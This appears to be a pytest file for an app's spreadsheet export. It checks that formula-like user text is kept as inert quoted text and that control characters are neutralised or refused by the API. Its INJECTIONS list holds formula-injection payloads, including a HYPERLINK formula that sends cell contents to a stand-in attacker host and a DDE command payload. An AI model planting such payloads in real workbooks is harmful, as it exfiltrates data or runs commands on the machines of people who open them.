"""User text written into exported workbooks stays inert text; control characters never break an export or
get stored through the API."""

from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from app.domain.spreadsheet_safety import protect_workbook, write_text_cell
from app.models import ApiRole, EnterpriseRole

INJECTIONS = ['=HYPERLINK("http://evil.example/?d="&A1,"详情")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
              "=1+1"]


def _round_trip(workbook: Workbook) -> Workbook:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return load_workbook(io.BytesIO(buffer.getvalue()))


def test_protected_workbook_keeps_formula_like_text_as_quoted_text() -> None:
    workbook = Workbook()
    sheet = workbook.active
    for text in INJECTIONS:
        sheet.append([text, "普通文本", 42])
    assert sheet["A1"].data_type == "f"  # what openpyxl does on its own: a live formula
    reread = _round_trip(protect_workbook(workbook)).active
    for row, text in enumerate(INJECTIONS, start=1):
        cell = reread.cell(row=row, column=1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
        assert reread.cell(row=row, column=2).quotePrefix is False
        assert reread.cell(row=row, column=3).value == 42


def test_control_characters_are_shown_not_fatal() -> None:
    workbook = Workbook()
    write_text_cell(workbook.active, 1, 1, "电机\x1b壳体")
    assert _round_trip(workbook).active["A1"].value == "电机\ufffd壳体"


def test_api_refuses_control_characters_in_text(client, make_key, make_enterprise) -> None:
    sme = make_enterprise(role=EnterpriseRole.SME)
    headers = make_key(ApiRole.SME, sme)
    response = client.post("/api/v1/supply-items", headers=headers, json={
        "category": "关键零部件", "product_name": "电机\x1b[31m壳体", "description": "正常"})
    assert response.status_code == 422
    assert response.json()["detail"][0]["field"] == "product_name"
